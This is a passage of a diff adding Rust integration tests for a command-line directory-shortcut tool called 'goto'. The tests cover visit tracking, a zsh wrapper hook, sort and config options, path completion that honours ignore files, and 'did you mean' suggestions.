+    let config = fs::read_to_string(temp.path().join(".goto/to_dirs")).unwrap();
+
+    assert!(config.contains("work-app="));
+    assert!(config.contains("quiet="));
+}
+
+#[test]
+fn TrackAppendsVisitWithoutLoadingStore() {
+    let temp = TempDir::new().unwrap();
+
+    let old = MakeDir(&temp, "old");
+    let here = MakeDir(&temp, "here");
+
+    BuildCommand(&temp)
+        .args(["--add", "old", old.to_str().unwrap()])
+        .assert()
+        .success();
+
+    fs::write(temp.path().join(".goto/to_dirs_meta"), "old=1\n").unwrap();
+
+    for _ in 0..2 {
+        BuildCommand(&temp)
+            .args(["--track", here.to_str().unwrap()])
+            .assert()
+            .success();
+    }
+
+    let config = fs::read_to_string(temp.path().join(".goto/to_dirs")).unwrap();
+
+    assert!(config.contains("old="));
+
+    let visits = fs::read_to_string(temp.path().join(".goto/to_dirs_visits")).unwrap();
+
+    let canonical = here.canonicalize().unwrap();
+
+    assert_eq!(visits.lines().count(), 2);
+    assert!(
+        visits
+            .lines()
+            .all(|line| line.starts_with(&format!("{}=1,", canonical.display())))
+    );
+}
+
+#[test]
+fn InstallWrapperTrackAddsHook() {
+    let temp = TempDir::new().unwrap();
+
+    let rc_path = temp.path().join(".zshrc");
+
+    BuildCommand(&temp)
+        .args([
+            "--install-wrapper",
+            "--install-wrapper-rc",
+            rc_path.to_str().unwrap(),
+            "--install-wrapper-track",
+        ])
+        .assert()
+        .success()
+        .stdout(contains("Wrapper added"));
+
+    let contents = fs::read_to_string(&rc_path).unwrap();
+
+    assert!(contents.contains("command to --track"));
+    assert!(contents.contains("add-zsh-hook chpwd _goto_track"));
+    assert!(!contents.contains("PROMPT_COMMAND"));
+    assert!(contents.contains("# <<< goto init <<<"));
+}
+
 #[test]
 fn CodeAndCursorAreMutuallyExclusive() {
     let temp = TempDir::new().unwrap();
@@ -258,7 +2706,12 @@ fn ShowSortModePrintsCurrent() {
         .stdout(contains("alpha"));
 
     BuildCommand(&temp)
-        .args(["--sort", "recent"])
+        .args(["--config", "sort_order", "recent"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--sort", "added", "--list"])
         .assert()
         .success();
 
@@ -267,6 +2720,49 @@ fn ShowSortModePrintsCurrent() {
         .assert()
         .success()
         .stdout(contains("recent"));
+
+    BuildCommand(&temp)
+        .args(["--config", "sort_order"])
+        .assert()
+        .success()
+        .stdout("recent\n");
+
+    BuildCommand(&temp)
+        .args(["--sort", "added"])
+        .assert()
+        .code(2)
+        .stderr(contains("--config").and(contains("sort_order")));
+
+    BuildCommand(&temp)
+        .args(["--config", "export_prefix"])
+        .assert()
+        .code(1)
+        .stdout("")
+        .stderr("");
+}
+
+#[test]
+fn SortRejectsNonListingActions() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--sort", "recent", "--rm", "proj"])
+        .assert()
+        .code(2)
+        .stderr(contains("--sort only orders"));
+
+    BuildCommand(&temp)
+        .args(["--list", "proj"])
+        .assert()
+        .success()
+        .stdout(contains("proj"));
 }
 
 #[test]
@@ -319,6 +2815,92 @@ fn CompleteTargetsAddsSubpaths() {
         .stdout(contains("base/src/"));
 }
 
+#[test]
+fn CompleteTargetsSortsAndFiltersSubpaths() {
+    let temp = TempDir::new().unwrap();
+
+    let base = MakeDir(&temp, "base");
+
+    for name in ["src10", "src2", ".hidden", "target", "node_modules"] {
+        fs::create_dir_all(base.join(name)).unwrap();
+    }
+
+    fs::write(base.join("notes.txt"), "notes").unwrap();
+    fs::write(base.join(".gitignore"), "target/\n").unwrap();
+    fs::write(base.join(".ignore"), "node_modules\n").unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "base", base.to_str().unwrap()])
+        .assert()
+        .success();
+
+    let output = BuildCommand(&temp)
+        .args([
+            "--__complete-mode",
+            "targets",
+            "--__complete-input",
+            "base/",
+        ])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let lines: Vec<String> = String::from_utf8(output)
+        .unwrap()
+        .lines()
+        .map(|line| line.to_string())
+        .collect();
+
+    assert_eq!(lines, vec!["base/src2/", "base/src10/"]);
+
+    BuildCommand(&temp)
+        .args([
+            "--__complete-mode",
+            "targets",
+            "--__complete-input",
+            "base/.h",
+        ])
+        .assert()
+        .success()
+        .stdout(contains("base/.hidden/"));
+}
+
+#[test]
+fn CompleteTargetsHonorsRepoRootIgnoreAboveShortcut() {
+    let temp = TempDir::new().unwrap();
+
+    let repo = MakeDir(&temp, "repo");
+    let crate_dir = MakeDir(&temp, "repo/crates/core");
+
+    fs::create_dir_all(repo.join(".git")).unwrap();
+    fs::create_dir_all(crate_dir.join("target")).unwrap();
+    fs::create_dir_all(crate_dir.join("src")).unwrap();
+    fs::write(repo.join(".gitignore"), "target/\n").unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "core", crate_dir.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args([
+            "--__complete-mode",
+            "targets",
+            "--__complete-input",
+            "core/",
+        ])
+        .assert()
+        .success()
+        .stdout("core/src/\n");
+
+    BuildCommand(&temp)
+        .args(["--__complete-mode", "paths", "--__complete-input", "core/"])
+        .assert()
+        .code(2);
+}
+
 #[test]
 fn SearchFiltersByKeywordAndPath() {
     let temp = TempDir::new().unwrap();
@@ -479,6 +3061,56 @@ fn SearchJsonOutputsValid() {
     assert!(parsed.is_array());
 }
 
+#[test]
+fn UnknownKeywordSuggestsCandidates() {
+    let temp = TempDir::new().unwrap();
+
+    let proj = MakeDir(&temp, "proj");
+    let prod = MakeDir(&temp, "prod");
+    let docs = MakeDir(&temp, "docs");
+    let x = MakeDir(&temp, "x");
+
+    for (keyword, dir) in [("proj", &proj), ("prod", &prod), ("docs", &docs), ("x", &x)] {
+        BuildCommand(&temp)
+            .args(["--add", keyword, dir.to_str().unwrap()])
+            .assert()
+            .success();
+    }
+
+    BuildCommand(&temp)
+        .args(["--print-path", "prj/src"])
+        .assert()
+        .failure()
+        .stderr(contains("Did you mean: proj"))
+        .stderr(contains("docs").not());
+
+    BuildCommand(&temp)
+        .args(["--rm", "pro"])
+        .assert()
+        .failure()
+        .stderr(contains("Did you mean: prod, proj?"));
+
+    BuildCommand(&temp)
+        .args(["--print-path", "xylophone"])
+        .assert()
+        .failure()
+        .stderr(contains("Did you mean").not());
+
+    let output = BuildCommand(&temp)
+        .args(["--print-path", "prod2", "--json"])
+        .assert()
+        .failure()
+        .get_output()
+        .stdout
+        .clone();
+
+    let parsed: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(parsed["query"], "prod2");
+    assert_eq!(parsed["suggestions"][0], "prod");
+    assert_eq!(parsed["error"], "Shortcut or path 'prod2' not found.");
+}
+
 #[test]
 fn AddSameKeywordSamePathIsNoOp() {
     let temp = TempDir::new().unwrap();
@@ -523,7 +3155,7 @@ fn AddSameKeywordDifferentPathRequiresForce() {
 
     let config = fs::read_to_string(temp.path().join(".goto/to_dirs")).unwrap();
 
-    assert!(config.contains(second.to_str().unwrap()));
+    assert!(config.contains("proj=~/two"));
 }
 
 #[test]
@@ -575,7 +3207,8 @@ fn CheckWrapperFlagDetectsPresence() {
     BuildCommand(&temp)
         .args(["--__check-wrapper", rc_path.to_str().unwrap()])
         .assert()
-        .failure();
+        .code(1)
+        .stderr("");
 }
 
 #[test]